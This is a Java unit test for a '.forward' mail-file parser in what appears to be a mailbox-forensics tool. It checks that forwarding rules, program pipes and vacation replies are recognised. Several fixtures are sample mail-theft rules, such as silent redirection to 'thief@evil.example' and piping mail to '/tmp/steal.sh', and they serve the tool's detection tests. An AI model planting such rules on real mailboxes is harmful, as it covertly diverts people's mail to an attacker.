package org.mimawari.connector.export.script;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.mimawari.connector.export.ExportFiles;
import org.mimawari.connector.export.RecordingSink;
import org.mimawari.connector.export.Source;
import org.mimawari.evidence.AutoReply;
import org.mimawari.evidence.Coverage;
import org.mimawari.evidence.MailboxAddress;
import org.mimawari.evidence.MailboxRule;
import org.mimawari.evidence.RuleAction;
import org.mimawari.evidence.RuleAction.Type;
import org.mimawari.evidence.RuleTrait;

class ForwardFileTest {

    private static final ForwardFile LANGUAGE = new ForwardFile();

    @TempDir
    private Path folder;

    private static MailboxRule only(String text) {
        assertThat(Filters.rules(LANGUAGE, text)).hasSize(1);
        return Filters.rules(LANGUAGE, text).get(0);
    }

    private int recognises(String name, String content) {
        return ExportFiles.recognises(new FilterFiles(LANGUAGE), new ExportFiles(folder).file(name, content));
    }

    @Test
    void isKnownByItsNameAndByNothingElseInIt() {
        assertThat(recognises(".forward", "# mine\n\\info, a@evil.example\n\"|/usr/bin/vacation info\"\n")).isGreaterThan(50);
        assertThat(recognises("notes.txt", "a@evil.example\n")).isZero();
        assertThat(recognises(".forward", "Please forward this to the team.\n")).isZero();
        assertThat(recognises(".forward", "require \"copy\";\nredirect \"a@evil.example\";\n")).isZero();
    }

    @Test
    void anAddressAloneKeepsNoCopy() {
        MailboxRule rule = only("thief@evil.example\n");
        assertThat(rule.actions()).containsExactly(RuleAction.of(Type.REDIRECT, "thief@evil.example"));
        assertThat(rule.traits()).containsExactly(RuleTrait.KEEPS_NO_COPY);
    }

    @Test
    void theOwnNameBesideItKeepsOne() {
        for (String own : List.of("\\info", "info", "info@shop.example", "/home/info/Maildir/")) {
            assertThat(only(own + ", thief@evil.example").traits()).isEmpty();
        }
    }

    @Test
    void programsAndFilesAreActions() {
        assertThat(only("\"|/tmp/steal.sh -x, y\"\n/dev/null\n").actions())
                .containsExactly(RuleAction.of(Type.EXECUTE, "/tmp/steal.sh -x, y"), RuleAction.of(Type.DISCARD));
        assertThat(only("|/tmp/vacation info").actions()).extracting(RuleAction::type).containsExactly(Type.EXECUTE);
        assertThat(only("\"|/usr/sbin/sendmail thief@evil.example\"").actions())
                .containsExactly(RuleAction.of(Type.REDIRECT, "thief@evil.example"));
    }

    @Test
    void ordinaryDeliveryIsNoRule() {
        assertThat(Filters.read(LANGUAGE, "\"|IFS=' ' && exec /usr/bin/procmail -f- || exit 75 #info\"\n")).isEmpty();
        assertThat(Filters.rules(LANGUAGE, "\"|IFS=' ' && exec /usr/bin/procmail -f- || /tmp/x #info\"\n")).hasSize(1);
        assertThat(Filters.read(LANGUAGE, "\\info\n")).isEmpty();
    }

    @Test
    void vacationIsAnAutomaticReply() {
        List<?> evidence = Filters.read(LANGUAGE, "\\info\n\"|/usr/bin/vacation -a sales info\"\n");
        assertThat(evidence).hasAtLeastOneElementOfType(AutoReply.class);
        assertThat(only("\\info\n\"|/usr/bin/vacation info\"").actions()).extracting(RuleAction::type)
                .containsExactly(Type.KEEP, Type.REPLY);
    }

    @Test
    void aListThatLiesElsewhereIsShownAsUnseen() {
        assertThat(only(":include:/home/info/list").readable()).isFalse();
    }

    @Test
    void belongsToTheHomeFolderItLiesIn() {
        RecordingSink sink = ExportFiles.read(new FilterFiles(LANGUAGE),
                new Source(new ExportFiles(folder).file("home/info/.forward", "a@evil.example").path(),
                        "home/info/.forward", Optional.empty(), List.of("home", "info")));
        assertThat(sink.evidence().get(0).mailbox()).contains(new MailboxAddress("info"));
        assertThat(sink.coverage()).hasSize(3).allMatch(piece -> piece.state() == Coverage.State.COLLECTED);
        assertThat(sink.admitted()).isEqualTo(1);
    }
}
